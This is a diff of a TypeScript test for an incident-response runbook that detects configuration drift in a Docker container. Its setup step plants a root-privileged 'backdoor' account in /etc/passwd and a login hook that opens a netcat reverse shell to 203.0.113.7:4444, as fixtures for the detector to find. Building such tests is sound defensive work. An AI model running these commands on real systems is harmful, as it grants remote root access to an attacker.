@@ -1,6 +1,6 @@
 import type Docker from 'dockerode';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { execIn, removeQuietly, startVictim, testDocker, uniqueName } from '../helpers/docker.js';
+import { execIn, removeQuietly, startVictim, TEST_IMAGE, testDocker, uniqueName } from '../helpers/docker.js';
 import { expectCustodyVerifies, expectEvidenceIntact, findings, runbookWorkspace, runThroughApproval, type RunbookWorkspace } from './runbook-workspace.js';
 
 describe('shipped runbook config-drift', () => {
@@ -16,7 +16,7 @@ describe('shipped runbook config-drift', () => {
     // an unauthorised account and a login hook, plus a log write the allowlist accepts
     await execIn(victim, ['sh', '-c', 'echo "backdoor:x:0:0::/root:/bin/sh" >> /etc/passwd && mkdir -p /etc/profile.d /var/log && echo "nc 203.0.113.7 4444 -e /bin/sh &" > /etc/profile.d/zz.sh && echo ok > /var/log/app.log']);
     ws = runbookWorkspace();
-    incidentId = await runThroughApproval(ws, 'config-drift', { container: name });
+    incidentId = await runThroughApproval(ws, 'config-drift', { container: name, clean_image: TEST_IMAGE });
   }, 90_000);
 
   afterAll(() => removeQuietly(docker.getContainer(name)));
